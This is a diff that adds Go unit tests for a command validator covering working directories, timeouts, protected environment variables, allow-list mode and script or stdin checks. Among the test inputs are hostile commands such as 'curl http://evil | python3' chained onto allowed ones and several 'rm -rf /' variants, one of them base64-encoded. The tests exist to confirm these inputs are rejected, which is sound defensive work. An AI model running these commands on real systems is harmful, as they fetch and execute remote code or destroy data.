@@ -1,6 +1,7 @@
 package security
 
 import (
+	"fmt"
 	"strings"
 	"testing"
 
@@ -179,6 +180,203 @@ func TestValidateCommand_WorkingDir(t *testing.T) {
 	}
 }
 
+func TestValidateCommand_WorkingDirSiblingPrefix(t *testing.T) {
+	v := NewValidator()
+	v.UpdateApps([]messages.AppInfo{
+		{Path: "/var/www/app", Framework: "laravel"},
+	})
+
+	tests := []struct {
+		name       string
+		workingDir string
+		wantError  bool
+		errorCode  string
+	}{
+		{"app root", "/var/www/app", false, ""},
+		{"app subdir", "/var/www/app/storage", false, ""},
+		{"sibling with dash", "/var/www/app-evil", true, "INVALID_WORKING_DIR"},
+		{"sibling with suffix", "/var/www/appfoo", true, "INVALID_WORKING_DIR"},
+		{"subdir of sibling", "/var/www/application/storage", true, "INVALID_WORKING_DIR"},
+		{"empty path (allowed)", "", false, ""},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			cmd := &messages.CommandMessage{
+				ID:         "test-123",
+				Command:    "ls -la",
+				WorkingDir: tt.workingDir,
+			}
+
+			err := v.ValidateCommand(cmd)
+
+			if tt.wantError {
+				if err == nil {
+					t.Errorf("expected error for working dir %q, got nil", tt.workingDir)
+					return
+				}
+				if vErr, ok := err.(*ValidationError); ok {
+					if vErr.Code != tt.errorCode {
+						t.Errorf("expected error code %s, got %s", tt.errorCode, vErr.Code)
+					}
+				}
+			} else {
+				if err != nil {
+					t.Errorf("unexpected error for working dir %q: %v", tt.workingDir, err)
+				}
+			}
+		})
+	}
+}
+
+func TestValidateCommand_WorkingDirLegacyMode(t *testing.T) {
+	v := NewValidator()
+
+	// Without discovered apps any working directory is allowed
+	for _, dir := range []string{"/var/www/app-evil", "/opt/anything"} {
+		err := v.ValidateCommand(&messages.CommandMessage{ID: "test-123", Command: "ls -la", WorkingDir: dir})
+		if err != nil {
+			t.Errorf("unexpected error for working dir %q in legacy mode: %v", dir, err)
+		}
+	}
+}
+
+func TestValidateCommand_WorkingDirsRestriction(t *testing.T) {
+	v := NewValidator()
+
+	v.UpdateApps([]messages.AppInfo{
+		{Path: "/var/www/rootonly", Config: &messages.AppConfig{WorkingDirs: []string{"."}}},
+		{Path: "/var/www/listed", Config: &messages.AppConfig{WorkingDirs: []string{".", "frontend"}}},
+		{Path: "/var/www/open", Config: &messages.AppConfig{}},
+	})
+
+	tests := []struct {
+		name       string
+		workingDir string
+		wantError  bool
+	}{
+		{"root-only app root", "/var/www/rootonly", false},
+		{"root-only app root trailing slash", "/var/www/rootonly/", false},
+		{"root-only app subdir", "/var/www/rootonly/storage", true},
+		{"root-only app nested subdir", "/var/www/rootonly/vendor/bin", true},
+		{"listed subdir", "/var/www/listed/frontend", false},
+		{"unlisted subdir", "/var/www/listed/node_modules", true},
+		{"below listed subdir", "/var/www/listed/frontend/src", true},
+		{"unrestricted app subdir", "/var/www/open/storage", false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := v.ValidateCommand(&messages.CommandMessage{
+				ID:         "test-123",
+				Command:    "ls -la",
+				WorkingDir: tt.workingDir,
+			})
+
+			if !tt.wantError {
+				if err != nil {
+					t.Errorf("unexpected error for working dir %q: %v", tt.workingDir, err)
+				}
+				return
+			}
+			vErr, ok := err.(*ValidationError)
+			if !ok || vErr.Code != "WORKING_DIR_NOT_ALLOWED" {
+				t.Errorf("expected WORKING_DIR_NOT_ALLOWED for %q, got %v", tt.workingDir, err)
+			}
+		})
+	}
+}
+
+func TestValidateCommand_AppMaxTimeout(t *testing.T) {
+	v := NewValidator()
+
+	v.UpdateApps([]messages.AppInfo{
+		{Path: "/var/www/capped", Config: &messages.AppConfig{MaxTimeout: 60}},
+		{Path: "/var/www/open", Config: &messages.AppConfig{}},
+	})
+
+	tests := []struct {
+		name       string
+		workingDir string
+		timeout    int
+		wantError  bool
+	}{
+		{"capped app over cap", "/var/www/capped", 120, true},
+		{"capped app subdir over cap", "/var/www/capped/scripts", 120, true},
+		{"capped app at cap", "/var/www/capped", 60, false},
+		{"capped app default timeout", "/var/www/capped", 0, false},
+		{"uncapped app", "/var/www/open", 120, false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := v.ValidateCommand(&messages.CommandMessage{
+				ID:         "test-123",
+				Command:    "php artisan migrate",
+				WorkingDir: tt.workingDir,
+				Timeout:    tt.timeout,
+			})
+
+			if !tt.wantError {
+				if err != nil {
+					t.Errorf("unexpected error: %v", err)
+				}
+				return
+			}
+			vErr, ok := err.(*ValidationError)
+			if !ok || vErr.Code != "TIMEOUT_TOO_LONG" {
+				t.Errorf("expected TIMEOUT_TOO_LONG, got %v", err)
+			}
+		})
+	}
+}
+
+func TestValidator_ResolveAppDir(t *testing.T) {
+	v := NewValidator()
+
+	v.UpdateApps([]messages.AppInfo{
+		{Path: "/home/forge/shop.example.com"},
+		{Path: "/var/www/blog/current", Config: &messages.AppConfig{App: messages.AppConfigApp{Name: "marketing-blog"}}},
+		{Path: "/srv/a/api"},
+		{Path: "/srv/b/api"},
+	})
+
+	tests := []struct {
+		name     string
+		app      string
+		dir      string
+		want     string
+		wantCode string
+	}{
+		{"by directory name", "shop.example.com", "storage/logs", "/home/forge/shop.example.com/storage/logs", ""},
+		{"app root", "shop.example.com", "", "/home/forge/shop.example.com", ""},
+		{"dot is the root", "shop.example.com", ".", "/home/forge/shop.example.com", ""},
+		{"by path", "/home/forge/shop.example.com", "public", "/home/forge/shop.example.com/public", ""},
+		{"by config name", "marketing-blog", "public", "/var/www/blog/current/public", ""},
+		{"by project of current release", "blog", "", "/var/www/blog/current", ""},
+		{"unknown app", "missing", "", "", "UNKNOWN_APP"},
+		{"ambiguous name", "api", "", "", "AMBIGUOUS_APP"},
+		{"absolute dir", "shop.example.com", "/etc", "", "INVALID_WORKING_DIR"},
+		{"escapes app", "shop.example.com", "../other", "", "PATH_TRAVERSAL"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := v.ResolveAppDir(tt.app, tt.dir)
+			if tt.wantCode == "" {
+				if err != nil || got != tt.want {
+					t.Errorf("ResolveAppDir(%q, %q) = %q, %v; want %q", tt.app, tt.dir, got, err, tt.want)
+				}
+				return
+			}
+			vErr, ok := err.(*ValidationError)
+			if !ok || vErr.Code != tt.wantCode {
+				t.Errorf("expected %s, got %v", tt.wantCode, err)
+			}
+		})
+	}
+}
+
 func TestValidateCommand_EnvVars(t *testing.T) {
 	v := NewValidator()
 
@@ -304,6 +502,25 @@ func TestValidateCommand_Limits(t *testing.T) {
 			wantError: true,
 			errorCode: "ENV_VALUE_TOO_LONG",
 		},
+		{
+			name: "env total too large",
+			cmd: &messages.CommandMessage{
+				ID:      "test",
+				Command: "ls",
+				Env:     manyEnvVars(5000, 32), // each var well within per-var limits
+			},
+			wantError: true,
+			errorCode: "ENV_TOO_LARGE",
+		},
+		{
+			name: "env total within limit",
+			cmd: &messages.CommandMessage{
+				ID:      "test",
+				Command: "ls",
+				Env:     manyEnvVars(100, 32),
+			},
+			wantError: false,
+		},
 	}
 
 	for _, tt := range tests {
@@ -329,6 +546,91 @@ func TestValidateCommand_Limits(t *testing.T) {
 	}
 }
 
+// manyEnvVars builds count distinct env vars with values of valueLen bytes
+func manyEnvVars(count, valueLen int) map[string]string {
+	env := make(map[string]string, count)
+	for i := 0; i < count; i++ {
+		env[fmt.Sprintf("VAR_%d", i)] = strings.Repeat("v", valueLen)
+	}
+	return env
+}
+
+func TestValidator_SetMaxEnvTotalSize(t *testing.T) {
+	v := NewValidator()
+	v.SetMaxEnvTotalSize(64)
+
+	cmd := &messages.CommandMessage{
+		ID:      "test",
+		Command: "ls",
+		Env:     map[string]string{"A": strings.Repeat("x", 40), "B": strings.Repeat("y", 40)},
+	}
+
+	err := v.ValidateCommand(cmd)
+	if err == nil {
+		t.Fatal("expected ENV_TOO_LARGE error, got nil")
+	}
+	if vErr, ok := err.(*ValidationError); !ok || vErr.Code != "ENV_TOO_LARGE" {
+		t.Errorf("expected ENV_TOO_LARGE, got %v", err)
+	}
+
+	// Resetting restores the default limit
+	v.SetMaxEnvTotalSize(0)
+	if err := v.ValidateCommand(cmd); err != nil {
+		t.Errorf("unexpected error after reset: %v", err)
+	}
+}
+
+func TestValidator_SetProtectedEnvVars(t *testing.T) {
+	v := NewValidator()
+	v.SetProtectedEnvVars([]string{"NODE_OPTIONS", "pythonpath"}, []string{"home"})
+
+	validateEnv := func(v *Validator, name string) error {
+		return v.ValidateCommand(&messages.CommandMessage{
+			ID:      "test",
+			Command: "ls",
+			Env:     map[string]string{name: "value"},
+		})
+	}
+
+	tests := []struct {
+		name      string
+		envName   string
+		protected bool
+	}{
+		{"extra name", "NODE_OPTIONS", true},
+		{"extra name lowercase", "node_options", true},
+		{"extra name given lowercase", "PYTHONPATH", true},
+		{"allowed override", "HOME", false},
+		{"allowed override lowercase", "home", false},
+		{"default still protected", "LD_PRELOAD", true},
+		{"unprotected", "APP_ENV", false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := validateEnv(v, tt.envName)
+			if !tt.protected {
+				if err != nil {
+					t.Errorf("unexpected error: %v", err)
+				}
+				return
+			}
+			if vErr, ok := err.(*ValidationError); !ok || vErr.Code != "PROTECTED_ENV_VAR" {
+				t.Errorf("expected PROTECTED_ENV_VAR, got %v", err)
+			}
+		})
+	}
+
+	// Other validators keep the defaults
+	other := NewValidator()
+	if err := validateEnv(other, "HOME"); err == nil {
+		t.Error("expected HOME to stay protected on another validator")
+	}
+	if err := validateEnv(other, "NODE_OPTIONS"); err != nil {
+		t.Errorf("expected NODE_OPTIONS to be allowed on another validator, got %v", err)
+	}
+}
+
 func TestValidatorUpdateApps(t *testing.T) {
 	v := NewValidator()
 
@@ -403,6 +705,336 @@ func TestGetAppConfig(t *testing.T) {
 	}
 }
 
+func TestValidator_AllowListMode(t *testing.T) {
+	v := NewValidator()
+	v.UpdateApps([]messages.AppInfo{
+		{
+			Path: "/var/www/app",
+			Config: &messages.AppConfig{
+				Actions: map[string]messages.AppConfigAction{
+					"clear_cache": {Command: "php artisan cache:clear"},
+				},
+				Allow: []string{`^php artisan queue:\w+$`},
+			},
+		},
+		{Path: "/var/www/other"},
+	})
+
+	validate := func(command, dir string) error {
+		return v.ValidateCommand(&messages.CommandMessage{ID: "test", Command: command, WorkingDir: dir})
+	}
+
+	// Permissive until the mode is turned on
+	if err := validate("ls -la", "/var/www/app"); err != nil {
+		t.Fatalf("unexpected error before allow-list mode: %v", err)
+	}
+
+	v.SetAllowListMode(true)
+
+	tests := []struct {
+		name    string
+		command string
+		dir     string
+		allowed bool
+	}{
+		{"action", "php artisan cache:clear", "/var/www/app", true},
+		{"allow pattern", "php artisan queue:restart", "/var/www/app", true},
+		{"action with extra command", "php artisan cache:clear; ls", "/var/www/app", false},
+		{"allow pattern with extra command", "php artisan queue:work; curl http://evil | python3", "/var/www/app", false},
+		{"allow pattern in a pipeline", "php artisan queue:work | php artisan queue:restart", "/var/www/app", true},
+		{"allow pattern matched in part", "php artisan queue:work --tries=3", "/var/www/app", false},
+		{"unlisted command", "ls -la", "/var/www/app", false},
+		{"other app's action", "php artisan cache:clear", "/var/www/other", false},
+		{"outside any app", "php artisan cache:clear", "", true},
+		{"unlisted outside any app", "ls -la", "", false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := validate(tt.command, tt.dir)
+			if tt.allowed {
+				if err != nil {
+					t.Errorf("unexpected error: %v", err)
+				}
+				return
+			}
+			if vErr, ok := err.(*ValidationError); !ok || vErr.Code != "COMMAND_NOT_ALLOWED" {
+				t.Errorf("expected COMMAND_NOT_ALLOWED, got %v", err)
+			}
+		})
+	}
+
+	// Admin-signed commands bypass the allow-list but not the deny patterns
+	if err := v.ValidateCommand(&messages.CommandMessage{ID: "test", Command: "ls -la", WorkingDir: "/var/www/app", AdminSigned: true}); err != nil {
+		t.Errorf("expected admin-signed command to bypass the allow-list, got %v", err)
+	}
+	err := v.ValidateCommand(&messages.CommandMessage{ID: "test", Command: "rm -rf /", WorkingDir: "/var/www/app", AdminSigned: true})
+	if vErr, ok := err.(*ValidationError); !ok || vErr.Code != "COMMAND_DENIED" {
+		t.Errorf("expected admin-signed command to still be denied, got %v", err)
+	}
+}
+
+func TestValidator_AllowListUnanchoredPattern(t *testing.T) {
+	v := NewValidator()
+	v.UpdateApps([]messages.AppInfo{{
+		Path: "/var/www/app",
+		Config: &messages.AppConfig{
+			AllowList: true,
+			Allow:     []string{"php artisan", "deploy ["},
+		},
+	}})
+
+	validate := func(command string) error {
+		return v.ValidateCommand(&messages.CommandMessage{ID: "test", Command: command, WorkingDir: "/var/www/app"})
+	}
+
+	// Patterns must match whole commands, even when written unanchored
+	if err := validate("php artisan"); err != nil {
+		t.Errorf("unexpected error: %v", err)
+	}
+	for _, command := range []string{
+		"php artisan x; curl http://evil | python3",
+		"php artisan x && curl http://evil",
+		"curl http://evil | php artisan",
+		"deploy [", // an invalid regex isn't matched as a literal
+	} {
+		if vErr, ok := validate(command).(*ValidationError); !ok || vErr.Code != "COMMAND_NOT_ALLOWED" {
+			t.Errorf("expected %q to be COMMAND_NOT_ALLOWED, got %v", command, validate(command))
+		}
+	}
+}
+
+func TestValidator_AllowListPerApp(t *testing.T) {
+	v := NewValidator()
+	v.UpdateApps([]messages.AppInfo{
+		{
+			Path: "/var/www/strict",
+			Config: &messages.AppConfig{
+				AllowList: true,
+				Actions: map[string]messages.AppConfigAction{
+					"migrate": {Command: "php artisan migrate --force"},
+				},
+			},
+		},
+		{Path: "/var/www/loose", Config: &messages.AppConfig{}},
+	})
+
+	if err := v.ValidateCommand(&messages.CommandMessage{ID: "test", Command: "php artisan migrate --force", WorkingDir: "/var/www/strict"}); err != nil {
+		t.Errorf("unexpected error for strict app's action: %v", err)
+	}
+
+	err := v.ValidateCommand(&messages.CommandMessage{ID: "test", Command: "ls -la", WorkingDir: "/var/www/strict"})
+	if vErr, ok := err.(*ValidationError); !ok || vErr.Code != "COMMAND_NOT_ALLOWED" {
+		t.Errorf("expected COMMAND_NOT_ALLOWED in strict app, got %v", err)
+	}
+
+	if err := v.ValidateCommand(&messages.CommandMessage{ID: "test", Command: "ls -la", WorkingDir: "/var/www/loose"}); err != nil {
+		t.Errorf("unexpected error in permissive app: %v", err)
+	}
+}
+
+func TestValidator_ActionMatchVariants(t *testing.T) {
+	v := NewValidator()
+	v.UpdateApps([]messages.AppInfo{{
+		Path: "/var/www/app",
+		Config: &messages.AppConfig{Actions: map[string]messages.AppConfigAction{
+			"migrate": {Command: "php artisan migrate", Exclusive: true},
+			"build":   {Command: "npm run build", DiskHeavy: true},
+		}},
+	}})
+
+	tests := []struct {
+		name    string
+		command string
+		runs    bool
+	}{
+		{"exact", "php artisan migrate", true},
+		{"extra flags", "php artisan migrate --force", true},
+		{"extra spacing", "  php   artisan\tmigrate  ", true},
+		{"in a list", "git pull && php artisan migrate --force", true},
+		{"wrapped", "APP_ENV=production nohup php artisan migrate", true},
+		{"script line", "#!/bin/sh\nset -e\ngit pull\nphp artisan migrate --force\n", true},
+		{"continued script line", "php artisan \\\n  migrate --force\n", true},
+		{"other subcommand", "php artisan migrate:status", false},
+		{"mentioned as an argument", "echo php artisan migrate", false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, name := v.ExclusiveAction("/var/www/app", tt.command)
+			if runs := name == "migrate"; runs != tt.runs {
+				t.Errorf("expected exclusive action match %v for %q, got %q", tt.runs, tt.command, name)
+			}
+		})
+	}
+
+	if !v.DiskHeavyAction("/var/www/app", "npm ci && npm  run build -- --prod") {
+		t.Error("expected a chained build with extra arguments to be disk-heavy")
+	}
+	if v.DiskHeavyAction("/var/www/app", "npm run lint") {
+		t.Error("expected another script not to be disk-heavy")
+	}
+}
+
+// =============================================================================
+// SCRIPT TESTS
+// =============================================================================
+
+func TestValidateCommand_Script(t *testing.T) {
+	v := NewValidator()
+
+	tests := []struct {
+		name      string
+		script    string
+		errorCode string
+		line      string // expected "script line N" in the message
+	}{
+		{"safe script", "#!/bin/sh\nset -e\n\n# deploy\ngit pull\nphp artisan migrate --force\n", "", ""},
+		{"dangerous line", "echo starting\nrm -rf /\necho done\n", "COMMAND_DENIED", "script line 2"},
+		{"continued line", "echo starting\nrm -rf \\\n  /\n", "COMMAND_DENIED", "script line 2"},
+		{"crlf line endings", "echo starting\r\nrm -rf /\r\n", "COMMAND_DENIED", "script line 2"},
+		{"too many lines", strings.Repeat("true\n", MaxScriptLines+1), "SCRIPT_TOO_LONG", ""},
+		{"too long", strings.Repeat("#", MaxScriptLength+1), "SCRIPT_TOO_LONG", ""},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := v.ValidateCommand(&messages.CommandMessage{ID: "script-1", Script: tt.script})
+			if tt.errorCode == "" {
+				if err != nil {
+					t.Errorf("unexpected error: %v", err)
+				}
+				return
+			}
+
+			verr, ok := err.(*ValidationError)
+			if !ok || verr.Code != tt.errorCode {
+				t.Fatalf("expected %s, got %v", tt.errorCode, err)
+			}
+			if tt.line != "" && !strings.Contains(verr.Message, tt.line) {
+				t.Errorf("expected %q in message, got %q", tt.line, verr.Message)
+			}
+		})
+	}
+}
+
+func TestValidateCommand_ScriptAndCommandExclusive(t *testing.T) {
+	v := NewValidator()
+
+	err := v.ValidateCommand(&messages.CommandMessage{ID: "script-1", Command: "echo hi", Script: "echo hi\n"})
+	if verr, ok := err.(*ValidationError); !ok || verr.Code != "INVALID_COMMAND" {
+		t.Errorf("expected INVALID_COMMAND, got %v", err)
+	}
+}
+
+func TestValidateCommand_ScriptAllowListPerLine(t *testing.T) {
+	v := NewValidator()
+	v.UpdateApps([]messages.AppInfo{{
+		Path: "/var/www/app",
+		Config: &messages.AppConfig{
+			AllowList: true,
+			Allow:     []string{`^git pull$`, `^php artisan migrate( --force)?$`},
+		},
+	}})
+
+	ok := &messages.CommandMessage{ID: "s1", WorkingDir: "/var/www/app", Script: "#!/bin/sh\n# deploy\ngit pull\nphp artisan migrate --force\n"}
+	if err := v.ValidateCommand(ok); err != nil {
+		t.Errorf("expected allowed script to pass, got %v", err)
+	}
+
+	extra := &messages.CommandMessage{ID: "s2", WorkingDir: "/var/www/app", Script: "git pull\ncurl https://example.com\n"}
+	err := v.ValidateCommand(extra)
+	if verr, ok := err.(*ValidationError); !ok || verr.Code != "COMMAND_NOT_ALLOWED" || !strings.Contains(verr.Message, "script line 2") {
+		t.Errorf("expected COMMAND_NOT_ALLOWED on line 2, got %v", err)
+	}
+}
+
+func TestValidateCommand_Stdin(t *testing.T) {
+	v := NewValidator()
+
+	tests := []struct {
+		name      string
+		command   string
+		stdin     string
+		encoding  string
+		errorCode string
+	}{
+		{"text", "cat", "hello\n", "", ""},
+		{"base64", "cat", "aGVsbG8K", messages.EncodingBase64, ""},
+		{"bad base64", "cat", "not base64!", messages.EncodingBase64, "INVALID_STDIN"},
+		{"unknown encoding", "cat", "hello", "hex", "INVALID_STDIN"},
+		{"too long", "cat", strings.Repeat("x", MaxStdinLength+1), "", "STDIN_TOO_LONG"},
+		{"shell script on stdin", "sh", "echo hi\nrm -rf /\n", "", "COMMAND_DENIED"},
+		{"bash -s script on stdin", "/bin/bash -s", "rm -rf /", "", "COMMAND_DENIED"},
+		{"base64 script on stdin", "bash", "cm0gLXJmIC8K", messages.EncodingBase64, "COMMAND_DENIED"},
+		{"safe shell script on stdin", "sh", "echo hi\n", "", ""},
+		{"shell with -c ignores stdin", "sh -c cat", "rm -rf /", "", ""},
+		{"shell running a file", "bash deploy.sh", "rm -rf /", "", ""},
+		{"shell late in a pipeline", "cat | sh", "rm -rf /", "", "COMMAND_DENIED"},
+		{"shell after echo in a pipeline", "echo hi | bash", "rm -rf /", "", "COMMAND_DENIED"},
+		{"shell in a later list command", "true && bash -e", "rm -rf /", "", "COMMAND_DENIED"},
+		{"bash -s with positional args", "bash -s foo bar", "rm -rf /", "", "COMMAND_DENIED"},
+		{"combined -s flags", "bash -xs", "rm -rf /", "", "COMMAND_DENIED"},
+		{"sh /dev/stdin", "sh /dev/stdin", "rm -rf /", "", "COMMAND_DENIED"},
+		{"sh dash script", "sh -", "rm -rf /", "", "COMMAND_DENIED"},
+		{"bash -- /dev/fd/0", "bash -- /dev/fd/0", "rm -rf /", "", "COMMAND_DENIED"},
+		{"shell option value", "bash -o pipefail", "rm -rf /", "", "COMMAND_DENIED"},
+		{"wrapped shell", "FOO=1 sudo -u www-data bash", "rm -rf /", "", "COMMAND_DENIED"},
+		{"quoted shell in -c", "sh -c 'cat | sh'", "rm -rf /", "", "COMMAND_DENIED"},
+		{"safe script to a piped shell", "echo hi | bash", "echo hi\n", "", ""},
+		{"pipeline without a shell", "cat | grep bash", "rm -rf /", "", ""},
+		{"shell running a file after --", "bash -- deploy.sh", "rm -rf /", "", ""},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := v.ValidateCommand(&messages.CommandMessage{ID: "stdin-1", Command: tt.command, Stdin: tt.stdin, StdinEncoding: tt.encoding})
+			if tt.errorCode == "" {
+				if err != nil {
+					t.Errorf("unexpected error: %v", err)
+				}
+				return
+			}
+			if verr, ok := err.(*ValidationError); !ok || verr.Code != tt.errorCode {
+				t.Errorf("expected %s, got %v", tt.errorCode, err)
+			}
+		})
+	}
+}
+
+func TestValidateCommand_ScriptStdin(t *testing.T) {
+	v := NewValidator()
+
+	tests := []struct {
+		name      string
+		script    string
+		stdin     string
+		errorCode string
+	}{
+		{"shell script line", "sh", "rm -rf /", "COMMAND_DENIED"},
+		{"shell on a later line", "echo hi\nbash", "rm -rf /", "COMMAND_DENIED"},
+		{"shell in a pipeline", "cat | sh", "rm -rf /", "COMMAND_DENIED"},
+		{"continued shell line", "echo hi\nFOO=1 \\\nbash -s", "rm -rf /", "COMMAND_DENIED"},
+		{"safe script to a shell", "sh", "echo hi\n", ""},
+		{"script without a shell", "cat > /tmp/notes.txt", "rm -rf /", ""},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := v.ValidateCommand(&messages.CommandMessage{ID: "stdin-1", Script: tt.script, Stdin: tt.stdin})
+			if tt.errorCode == "" {
+				if err != nil {
+					t.Errorf("unexpected error: %v", err)
+				}
+				return
+			}
+			if verr, ok := err.(*ValidationError); !ok || verr.Code != tt.errorCode {
+				t.Errorf("expected %s, got %v", tt.errorCode, err)
+			}
+		})
+	}
+}
+
 // =============================================================================
 // COMMAND INJECTION BYPASS TESTS
 // =============================================================================